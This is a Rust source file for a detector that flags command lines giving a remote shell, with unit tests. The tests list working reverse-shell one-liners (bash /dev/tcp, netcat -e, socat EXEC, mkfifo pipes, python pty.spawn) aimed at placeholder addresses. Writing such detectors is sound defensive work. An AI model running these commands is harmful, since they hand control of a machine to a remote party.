//! The forms in which a command line gives a shell to the other end of a connection.

use super::shell::{SHELLS, commands, holds, is_program, pipes_into_shell, runs, runs_code};

const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];

/// Whether the line gives a shell to whoever is at the other end of a connection.
pub fn is_reverse_shell(line: &str) -> bool {
    (holds(line, &["/dev/tcp/", "/dev/udp/"]) && by_redirection(line))
        || (holds(line, &["nc", "netcat", "socat"]) && by_tool(line))
        || (line.contains("ocket") && by_script(line))
}

/// `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `exec 5<>/dev/tcp/HOST/PORT; cat <&5 | sh`. A health check opens
/// such a connection to its own machine, or does no more than open it.
fn by_redirection(line: &str) -> bool {
    let to_itself = ["/dev/tcp/127.", "/dev/tcp/localhost/", "/dev/tcp/::1/"];
    let interactive = || line.split([' ', '\t', '"', '\'']).any(|word| word == "-i") && line.contains(">&");
    !holds(line, &to_itself) && (holds(line, &["0>&1", "0<&"]) || interactive() || pipes_into_shell(line))
}

/// `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:/bin/sh`, `cat PIPE | sh -i | nc HOST PORT > PIPE`.
fn by_tool(line: &str) -> bool {
    let named = commands(line).any(|words| match words.split_first() {
        Some((first, rest)) if is_program(first, NETCATS) => runs_shell(rest),
        Some((first, _)) => {
            is_program(first, &["socat"]) && holds(line, &["EXEC:", "exec:", "SYSTEM:", "system:"])
        }
        None => false,
    });
    named || (line.contains("mkfifo") && runs(line, NETCATS) && pipes_into_shell(line))
}

/// Whether netcat's options name a shell to run: `-e`, `-c`, `--exec`, `--sh-exec`, or letters that end so.
fn runs_shell(options: &[&str]) -> bool {
    let run = |word: &&&str| {
        word.starts_with('-') && (word.ends_with('e') || word.ends_with('c') || word.contains("exec"))
    };
    options.iter().skip_while(|word| !run(word)).skip(1).any(|word| is_program(word, SHELLS))
}

/// A program on the command line that opens a socket and starts a shell.
fn by_script(line: &str) -> bool {
    let given = |words: Vec<&str>| words.first().is_some_and(|first| runs_code(first));
    holds(line, &["/bin/sh", "/bin/bash", "pty.spawn"]) && commands(line).next().is_some_and(given)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reverse_shells() {
        for line in [
            "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "bash -c exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | bash",
            "nc -e /bin/sh 203.0.113.44 4444",
            "ncat --sh-exec /bin/bash 203.0.113.44 4444",
            "nc -lvp 4444 -e /bin/bash",
            "socat TCP:203.0.113.44:4444 EXEC:/bin/bash",
            "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 9001 >/tmp/f",
            "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",1));pty.spawn(\"/bin/sh\")",
        ] {
            assert!(is_reverse_shell(line), "{line}");
        }
    }

    #[test]
    fn connections_without_a_shell() {
        for line in [
            "bash -c exec 3<>/dev/tcp/127.0.0.1/9080 && printf 'GET / HTTP/1.1' >&3 && read -r line <&3",
            "timeout 1 bash -c </dev/tcp/db/5432",
            "nc -z db 5432",
            "nc -lk -p 8080",
            "socat TCP-LISTEN:8080,fork UNIX-CONNECT:/run/app.sock",
            "python3 -m http.server",
            "grep -e /bin/sh /etc/passwd",
        ] {
            assert!(!is_reverse_shell(line), "{line}");
        }
    }
}
